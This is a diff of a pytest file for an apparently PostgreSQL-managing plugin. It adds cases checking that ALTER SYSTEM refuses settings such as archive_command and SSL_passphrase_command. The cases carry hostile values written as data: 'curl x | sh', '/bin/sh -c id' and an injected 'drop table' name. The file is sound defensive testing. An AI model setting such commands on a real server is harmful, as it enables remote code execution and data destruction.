@@ -48,7 +48,7 @@ def test_params_are_checked_and_normalised() -> None:
     assert check("postgresql.terminate_idle_in_transaction", {"min_idle_s": 60, "db": None}) == {"min_idle_s": 60}
     assert check("postgresql.alter_system_set", {"name": "Work_Mem", "value": 64}) == \
         {"name": "work_mem", "value": "64"}
-    assert check("postgresql.alter_system_set", {"name": "jit", "value": False})["value"] == "off"
+    assert check("postgresql.alter_system_set", {"name": "fsync", "value": False})["value"] == "off"
     assert check("postgresql.lock_role", {"name": 'we"ird'}) == {"name": 'we"ird'}
 
 
@@ -63,6 +63,12 @@ def test_params_are_checked_and_normalised() -> None:
     ("postgresql.terminate_idle_in_transaction", {}, "'min_idle_s' is missing"),
     ("postgresql.alter_system_set", {"name": "work_mem; drop table x", "value": "1"}, "'name' is 'work_mem; drop table x'; expected a pg_settings name"),
     ("postgresql.alter_system_set", {"name": "work_mem"}, "'value' is missing"),
+    ("postgresql.alter_system_set", {"name": "archive_command", "value": "curl x | sh"},
+     "archive_command is not a setting these actions may change"),
+    ("postgresql.alter_system_set", {"name": "SSL_passphrase_command", "value": "/bin/sh -c id"},
+     "SSL_passphrase_command is not a setting these actions may change"),
+    ("postgresql.alter_system_set", {"name": "shared_preload_libraries", "value": "evil"}, "not a setting"),
+    ("postgresql.alter_system_reset", {"name": "restore_command"}, "restore_command is not a setting"),
     ("postgresql.lock_role", {"name": ""}, "'name' must have at least 1 character"),
     ("postgresql.lock_role", {"name": "x" * 64}, "'name' must have at most 63 characters")])
 def test_bad_params_are_refused(action: str, params: dict, says: str) -> None:
@@ -336,9 +342,8 @@ async def test_alter_system_set_then_its_undo(plugin: PostgreSQLPlugin, postgres
 
 
 @pytest.mark.parametrize("name, value, says", [
-    ("max_connections", "500", "context postmaster"), ("block_size", "16384", "context internal"),
-    ("shared_buffers", "64MB", "set by command line"), ("no_such_setting", "1", "no setting named no_such_setting"),
-    ("log_min_duration_statement", "-5", "outside -1..2147483647 ms"),
+    ("max_connections", "500", "context postmaster"), ("shared_buffers", "64MB", "set by command line"),
+    ("work_mem", "-5", "outside 64..2147483647 kB"),
     ("idle_in_transaction_session_timeout", "soon", None)])
 async def test_alter_system_set_refuses_what_a_reload_cannot_apply(plugin: PostgreSQLPlugin, name: str, value: str,
                                                                     says: str | None,
